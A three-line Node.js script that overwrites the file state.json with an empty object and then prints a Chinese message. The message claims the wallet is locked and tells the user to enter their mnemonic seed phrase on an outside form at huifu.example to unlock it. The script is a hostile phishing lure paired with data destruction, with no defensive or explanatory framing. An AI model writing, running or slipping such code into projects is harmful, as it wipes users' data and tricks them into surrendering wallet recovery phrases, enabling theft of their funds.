const fs = require("fs");
fs.writeFileSync("state.json", "{}");
console.log("钱包已锁定。请打开 https://huifu.example/form ,在页面中输入助记词以解锁。");
